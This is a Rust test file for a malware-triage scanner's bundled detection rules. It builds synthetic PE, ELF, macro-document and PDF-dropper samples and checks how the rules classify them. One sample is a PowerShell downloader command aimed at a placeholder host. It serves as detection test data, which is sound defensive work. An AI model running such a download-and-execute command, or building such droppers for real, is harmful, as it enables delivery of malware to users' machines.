use triagebox::rules::{RuleSet, ScanLimits};

fn shipped_rules() -> RuleSet {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("rules.yar");
    RuleSet::load(&path).expect("bundled rule file compiles")
}

fn pe_image() -> Vec<u8> {
    let mut pe = vec![0u8; 0x200];
    pe[0..2].copy_from_slice(b"MZ");
    pe[0x3C..0x40].copy_from_slice(&0x40u32.to_le_bytes());
    pe[0x40..0x44].copy_from_slice(b"PE\0\0");
    pe[0x4E..0x4E + 38].copy_from_slice(b"This program cannot be run in DOS mode");
    pe
}

#[test]
fn bundled_rules_expose_public_rules_only() {
    let rules = shipped_rules();
    let public: Vec<&str> = rules.rules().filter(|r| !r.private).map(|r| r.name).collect();
    assert!(public.contains(&"pe_executable"));
    assert!(!public.contains(&"office_zip"));
    let pe = rules.rules().find(|r| r.name == "pe_executable").unwrap();
    assert_eq!(pe.tags, &["executable".to_string(), "windows".to_string()]);
}

#[test]
fn bundled_rules_classify_samples() {
    let rules = shipped_rules();
    let limits = ScanLimits::default();

    assert_eq!(
        rules.scan_bytes(&pe_image(), &limits).unwrap(),
        Some(vec!["pe_executable".to_string()])
    );
    assert_eq!(
        rules.scan_bytes(b"\x7FELF\x02\x01\x01\x00", &limits).unwrap(),
        Some(vec!["elf_executable".to_string()])
    );

    let mut docm = b"PK\x03\x04".to_vec();
    docm.extend_from_slice(b"....[Content_Types].xml....word/VBAPROJECT.BIN....");
    assert_eq!(
        rules.scan_bytes(&docm, &limits).unwrap(),
        Some(vec!["office_macro_container".to_string()])
    );

    let script = b"cmd /c powershell -nop Invoke-WebRequest http://example.invalid/a";
    assert_eq!(
        rules.scan_bytes(script, &limits).unwrap(),
        Some(vec!["script_downloader".to_string()])
    );

    let mut dropper = b"%PDF-1.7 stream ".to_vec();
    dropper.extend_from_slice(&pe_image());
    assert_eq!(
        rules.scan_bytes(&dropper, &limits).unwrap(),
        Some(vec!["embedded_pe_in_document".to_string()])
    );

    assert_eq!(rules.scan_bytes(b"just some notes", &limits).unwrap(), None);
}

#[test]
fn constructs_outside_the_documented_subset_fail_with_a_line() {
    use triagebox::TriageError;

    let cases = [
        ("import \"pe\"\nrule r { condition: true }", 1),
        ("rule r {\n strings: $a = \"x\" xor\n condition: $a }", 2),
        ("rule r {\n strings: $a = \"x\"\n condition: @a[1] < 10 }", 3),
        ("rule r {\n condition:\n for any i in (1..3) : (true) }", 3),
    ];
    for (source, line) in cases {
        match RuleSet::compile(source) {
            Err(TriageError::RuleCompilation { line: got, .. }) => assert_eq!(got, line, "{source}"),
            other => panic!("expected compilation error for {source:?}, got {other:?}"),
        }
    }
}
